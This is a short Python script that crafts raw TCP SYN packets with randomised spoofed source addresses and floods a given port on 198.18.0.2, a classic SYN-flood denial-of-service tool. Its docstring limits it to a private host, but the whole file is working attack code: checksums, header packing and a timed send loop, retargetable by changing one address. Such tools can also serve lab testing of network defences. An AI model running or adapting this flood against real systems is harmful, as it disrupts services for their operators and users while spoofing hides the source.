"""Sends SYNs from many addresses that never answer: flood.py PORT COUNT. For a private host only."""

import random
import socket
import struct
import sys
import time

port, count = int(sys.argv[1]), int(sys.argv[2])
server = socket.inet_aton("198.18.0.2")


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
for _ in range(count):
    source = socket.inet_aton(f"198.18.{random.randrange(10, 250)}.{random.randrange(1, 250)}")
    options = b"\x02\x04\x05\xb4"
    tcp = struct.pack("!HHIIBBHHH", random.randrange(1024, 65535), port, random.getrandbits(32), 0, 0x60, 2, 65535, 0, 0)
    pseudo = source + server + struct.pack("!BBH", 0, 6, len(tcp + options))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp + options)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp + options), 1, 0, 64, 6, 0, source, server)
    raw.sendto(ip + tcp + options, ("198.18.0.2", 0))
    time.sleep(0.002)
